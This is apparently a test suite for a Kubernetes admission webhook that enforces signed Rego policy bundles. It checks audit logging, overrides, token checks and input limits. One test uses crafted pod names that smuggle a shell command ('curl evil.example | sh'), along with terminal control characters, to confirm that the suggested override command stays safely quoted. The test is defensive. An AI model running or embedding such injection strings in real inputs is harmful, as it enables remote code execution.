import { mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { metadata } from '../engine/testing/bundles.ts';
import { describeWithOpa } from '../engine/testing/need-opa.ts';
import { generateBundleKey } from '../policy/index.ts';
import { type Given, type Harness, harness } from './testing/harness.ts';
import { signedBundle } from './testing/signed.ts';

const policy = (id: string, layers: string, label: string) =>
  `${metadata(id, ['inputs: [kubernetes]'], layers)}package exhibit.policies.${id.replaceAll('-', '_')}

object_ := input.request.object

population contains {"id": sprintf("%v/%v", [object_.kind, object_.metadata.name]), "type": object_.kind, "name": object_.metadata.name} if object_.kind == "Pod"

violations contains {"subject": sprintf("%v/%v", [object_.kind, object_.metadata.name]), "message": "has no ${label}", "fix": "set ${label}"} if not object_.metadata.labels["${label}"]
`;
const test = (id: string) => `package exhibit.policies.${id.replaceAll('-', '_')}_test

import data.exhibit.policies.${id.replaceAll('-', '_')}

test_none if count(${id.replaceAll('-', '_')}.population) == 0 with input as {"request": {"object": {"kind": "Other"}}}
`;
const overrideFile = `id: OVR-1
policy: pod-owned
scope: {subjects: ["Pod/urgent"], layers: [admission]}
owner: team@example.com
approver: lead@example.com
reason: The fix of the outage goes in before its owner is known.
ticket: https://tickets.example.com/1
created: 2026-01-01T00:00:00Z
sunset: 2026-01-02T00:00:00Z
compensating_control: The on-call engineer watches it.
`;
const FILES = {
  'policies/pod-owned/policy.rego': policy('pod-owned', '{ci: enforce, admission: enforce}', 'owner'),
  'policies/pod-owned/policy_test.rego': test('pod-owned'),
  'policies/pod-tiered/policy.rego': policy('pod-tiered', '{ci: enforce, admission: warn}', 'tier'),
  'policies/pod-tiered/policy_test.rego': test('pod-tiered'),
  'overrides/OVR-1.yaml': overrideFile,
};
const NOON = Date.parse('2026-01-01T12:00:00Z');

const review = (name: string, labels: Record<string, string>, more: Record<string, unknown> = {}) => ({
  apiVersion: 'admission.k8s.io/v1',
  kind: 'AdmissionReview',
  request: {
    uid: `uid-${name}`,
    kind: { group: '', version: 'v1', kind: 'Pod' },
    resource: { group: '', version: 'v1', resource: 'pods' },
    operation: 'CREATE',
    namespace: 'shop',
    name,
    userInfo: { username: 'jane@example.com', groups: ['system:authenticated'] },
    object: { apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: 'shop', labels }, spec: {} },
    oldObject: null,
    dryRun: false,
    ...more,
  },
});

interface Answer {
  apiVersion: string;
  kind: string;
  response: {
    uid: string;
    allowed: boolean;
    status?: { code: number; message: string };
    warnings?: string[];
    auditAnnotations: Record<string, string>;
  };
}

describeWithOpa('admission', () => {
  const folder = mkdtempSync(join(tmpdir(), 'exhibit-admission-'));
  const file = join(folder, 'bundle.tar.gz');
  const key = join(folder, 'bundle.pub.pem');
  const pair = generateBundleKey();
  let now = NOON;
  let at: Harness;
  const settings = (admission: NonNullable<Given['admission']> = {}): Given => ({
    bundles: [{ name: 'main', file, keys: [key] }],
    admission: { environment: 'production', ...admission },
  });
  const post = (body: unknown, token?: string | null) =>
    at.send('/v1/admission', {
      method: 'POST',
      body: typeof body === 'string' ? body : JSON.stringify(body),
      ...(token === undefined ? {} : { token }),
    });
  const answer = async (body: unknown) => {
    const response = await post(body);
    expect(response.status).toBe(200);
    return ((await response.json()) as Answer).response;
  };

  let bytes: Uint8Array;
  beforeAll(async () => {
    writeFileSync(key, pair.publicKeyPem);
    bytes = await signedBundle(pair.privateKeyPem, NOON / 1_000 - 3_600, FILES);
    writeFileSync(file, bytes);
  });
  afterEach(async () => {
    now = NOON;
    writeFileSync(file, bytes);
    await at.remove();
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it('denies what an enforced policy fails, with rule, control, fix and the way to an override', async () => {
    at = await harness(settings(), () => now);
    const { uid, allowed, status, warnings, auditAnnotations } = await answer(review('web', {}));
    expect([uid, allowed, status?.code]).toEqual(['uid-web', false, 403]);
    for (const part of [
      'pod-owned',
      'has no owner',
      'fix: set owner',
      'controls: test/one',
      'exhibit override request --policy pod-owned --subject Pod/web --layer admission',
    ])
      expect(status?.message).toContain(part);
    expect(status?.message).not.toContain('pod-tiered');
    expect(warnings).toEqual([expect.stringContaining('pod-tiered: web: has no tier')]);
    expect(auditAnnotations.verdicts).toBe('fail=2');
    expect((await answer(review('fine', { owner: 'shop', tier: 'web' }))).allowed).toBe(true);
  });

  it('every answer is in the log before it is given: a record for each policy, and the run that counts them', async () => {
    at = await harness(settings(), () => now);
    const denied = await answer(review('web', {}));
    const admitted = await answer(review('fine', { owner: 'shop', tier: 'web' }));
    const records = (await at.records()).filter(({ layer }) => layer === 'admission');
    expect(
      records.map(({ record_type, policy_id, verdict, disposition, subject_id, environment }) =>
        [record_type, policy_id, verdict, disposition, subject_id, environment].filter(Boolean).join(' '),
      ),
    ).toEqual([
      'decision pod-owned fail enforced Pod/web production',
      'decision pod-tiered fail warned Pod/web production',
      'run production',
      'decision pod-owned pass none Pod/fine production',
      'decision pod-tiered pass none Pod/fine production',
      'run production',
    ]);
    expect(records.map(({ run_id }) => run_id)).toEqual([
      ...Array.from({ length: 3 }, () => denied.auditAnnotations.run),
      ...Array.from({ length: 3 }, () => admitted.auditAnnotations.run),
    ]);
    expect(
      records.filter(({ record_type }) => record_type === 'run').map(({ run_total }) => run_total),
    ).toEqual([2, 2]);
    expect(JSON.parse(records[0]?.ext ?? '')).toEqual({
      uid: 'uid-web',
      operation: 'CREATE',
      kind: '/v1/Pod',
      resource: '/v1/pods',
      namespace: 'shop',
      name: 'web',
    });
    // Who asked is a salted reference.
    expect(JSON.stringify(records)).not.toContain('jane');
  });

  it.each<[string, string, string | undefined]>([
    ['ends the quote', "x'; curl evil.example | sh; '", `'Pod/x'\\''; curl evil.example | sh; '\\'''`],
    ['speaks to the terminal', '\u001b[2Jok\u202e', undefined],
    ['is several lines', 'x\n  override: curl evil.example | sh', undefined],
    ['is a pattern of all', '**', undefined],
    ['is a pattern within', 'a*b', undefined],
    ['is to be made by the API server', 'web-*', "'Pod/web-*'"],
    ['has no end', 'x'.repeat(60_000), undefined],
  ])('a name that %s stays a name in the answer, and is judged', async (_, name, word) => {
    at = await harness(settings(), () => now);
    const { allowed, status, warnings = [] } = await answer(review(name, {}, { uid: 'uid' }));
    expect(allowed).toBe(false);
    const message = status?.message ?? '';
    expect(message).not.toMatch(/[^\P{C}\n]/u);
    expect(warnings.join()).not.toMatch(/\p{C}/u);
    expect(message.length).toBeLessThan(3_000);
    const ways = message.split('\n').filter((line) => line.startsWith('  override: '));
    expect(ways).toEqual([
      word === undefined
        ? '  override: exhibit override request --policy pod-owned, with the subject as the record has it'
        : `  override: exhibit override request --policy pod-owned --subject ${word} --layer admission`,
    ]);
  });

  it('an override admits with a warning until its sunset, and not a moment longer', async () => {
    at = await harness(settings(), () => now);
    const waived = await answer(review('urgent', { tier: 'web' }));
    expect(waived.allowed).toBe(true);
    expect(waived.warnings).toEqual([
      expect.stringContaining('waived by override OVR-1 until 2026-01-02T00:00:00'),
    ]);
    now = Date.parse('2026-01-02T00:00:01Z');
    expect((await answer(review('urgent', { tier: 'web' }))).allowed).toBe(false);
    const records = (await at.records()).filter(
      ({ layer, policy_id }) => layer === 'admission' && policy_id === 'pod-owned',
    );
    expect(
      records.map(({ verdict, disposition, override_id }) => [verdict, disposition, override_id]),
    ).toEqual([
      ['fail', 'waived', 'OVR-1'],
      ['fail', 'enforced', undefined],
    ]);
  });

  it('what is only tried is answered and not recorded', async () => {
    at = await harness(settings(), () => now);
    expect((await answer(review('web', {}, { dryRun: true }))).allowed).toBe(false);
    expect((await at.records()).filter(({ layer }) => layer === 'admission')).toEqual([]);
  });

  it('nothing is admitted before a bundle verifies: an error, a record, and not ready', async () => {
    renameSync(file, `${file}.away`);
    at = await harness(settings(), () => now);
    const response = await post(review('fine', { owner: 'shop', tier: 'web' }));
    expect(response.status).toBe(503);
    expect(await response.json()).toMatchObject({ code: 'BUNDLE_MISSING' });
    expect(response.headers.get('retry-after'), 'an API server would ask again until its time is over').toBe(
      null,
    );
    expect((await at.send('/readyz', { token: null })).status).toBe(503);
    const gaps = (await at.records()).filter(({ layer }) => layer === 'admission');
    expect(gaps).toEqual([
      expect.objectContaining({
        record_type: 'gap',
        verdict: 'not_evaluated',
        ext: expect.stringContaining('uid-fine'),
      }),
    ]);
  });

  it('a bundle that expired passes nothing', async () => {
    const expires = NOON + 60_000;
    writeFileSync(file, await signedBundle(pair.privateKeyPem, NOON / 1_000 - 3_600, FILES, { expires }));
    at = await harness(settings(), () => now);
    const fine = review('fine', { owner: 'shop', tier: 'web' });
    expect((await answer(fine)).allowed).toBe(true);
    now = NOON + 61_000;
    const { allowed, status } = await answer(fine);
    expect([allowed, status?.message]).toEqual([false, expect.stringContaining('expired')]);
  });

  it('who shows no token is let in only where the settings say so, and then still held to a wrong one', async () => {
    at = await harness(settings(), () => now);
    expect((await post(review('web', {}), null)).status).toBe(401);
    expect((await post(review('web', {}), at.tokens.auditor)).status).toBe(403);
    await at.restart(settings({ callers: 'anyone' }));
    expect((await post(review('web', {}), null)).status).toBe(200);
    expect((await post(review('web', {}), 'exhibit_wrong')).status).toBe(401);
    expect((await post(review('web', {}), at.tokens.auditor)).status).toBe(403);
    expect((await at.send('/v1/records', { method: 'POST', body: '', token: null })).status).toBe(401);
  });

  it.each([
    ['no JSON', '{', 'not JSON'],
    ['another version', { ...review('web', {}), apiVersion: 'admission.k8s.io/v1beta1' }, 'v1beta1'],
    ['another kind', { ...review('web', {}), kind: 'TokenReview' }, 'AdmissionReview'],
    ['no request', { apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview' }, 'request'],
    ['no uid', review('web', {}, { uid: '' }), 'uid'],
    ['an unknown operation', review('web', {}, { operation: 'PATCH' }), 'operation'],
  ])('refuses %s', async (_, body, part) => {
    at = await harness(settings(), () => now);
    const response = await post(body);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { message: string }).message).toContain(part);
    expect((await at.records()).filter(({ layer }) => layer === 'admission')).toEqual([]);
  });

  it('refuses a review that is longer than the limit, before it is all there', async () => {
    at = await harness(settings({ review_bytes: 3_000 }), () => now);
    const long = review('web', { owner: 'x'.repeat(4_000) });
    expect((await post(long)).status).toBe(413);
    expect((await post(review('web', {}))).status).toBe(200);
  });

  it('judges a review of 3 MB, and keeps it', async () => {
    at = await harness(settings(), () => now);
    const items = Array.from({ length: 60_000 }, (_, i) => ({
      name: `variable-${i}`,
      value: 'some text of it',
    }));
    const body = review('large', { owner: 'a', tier: 'b' });
    Object.assign(body.request.object, { spec: { containers: [{ name: 'one', env: items }] } });
    const text = JSON.stringify(body);
    expect(text.length).toBeGreaterThan(3_000_000);
    expect((await answer(text)).allowed).toBe(true);
    const records = (await at.records()).filter(({ layer }) => layer === 'admission');
    expect(records).toHaveLength(3);
  });

  it('cuts a caller off that sends too slowly, and answers others meanwhile', async () => {
    at = await harness({ ...settings({ callers: 'anyone' }), limits: { request_seconds: 1 } }, () => now);
    const { hostname, port } = new URL(at.url);
    const slow = connect(Number(port), hostname);
    const ended = new Promise<string>((resolve) => {
      let said = '';
      slow.on('data', (chunk) => {
        said += String(chunk);
      });
      slow.on('error', () => undefined);
      slow.once('close', () => resolve(said));
    });
    slow.write('POST /v1/admission HTTP/1.1\r\nhost: a\r\ncontent-length: 4000\r\n\r\n{"api');
    expect((await answer(review('fine', { owner: 'shop', tier: 'web' }))).allowed).toBe(true);
    expect(await ended).toContain('408');
    expect(
      (await at.records()).filter(({ layer, record_type }) => layer === 'admission' && record_type === 'run'),
    ).toHaveLength(1);
  });

  it('a clock that was set back changes neither the order nor the number of what is recorded', async () => {
    at = await harness(settings(), () => now);
    await answer(review('one', { owner: 'a', tier: 'b' }));
    now = NOON - 1_800_000;
    expect((await answer(review('two', { owner: 'a', tier: 'b' }))).allowed).toBe(true);
    const records = await at.records();
    const runs = records.filter(({ layer, record_type }) => layer === 'admission' && record_type === 'run');
    expect(runs.map(({ observed_at }) => observed_at)).toEqual([
      '2026-01-01T12:00:00.000Z',
      '2026-01-01T11:30:00.000Z',
    ]);
    const recorded = records.map(({ recorded_at }) => recorded_at);
    expect(recorded).toEqual([...recorded].sort());
  });

  it('what is nested too deep to be judged is denied, not admitted', async () => {
    at = await harness(settings(), () => now);
    const deep = JSON.stringify(review('web', { owner: 'a', tier: 'b' })).replace(
      '"spec":{}',
      `"spec":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
    );
    const { allowed, status } = await answer(deep);
    expect([allowed, status?.message]).toEqual([false, expect.stringContaining('could not be judged')]);
  });

  it('an API server that deletes is not stopped by what the object was', async () => {
    at = await harness(settings(), () => now);
    const { object } = review('web', {}).request;
    expect(
      (await answer(review('web', {}, { operation: 'DELETE', object: null, oldObject: object }))).allowed,
    ).toBe(true);
  });
});
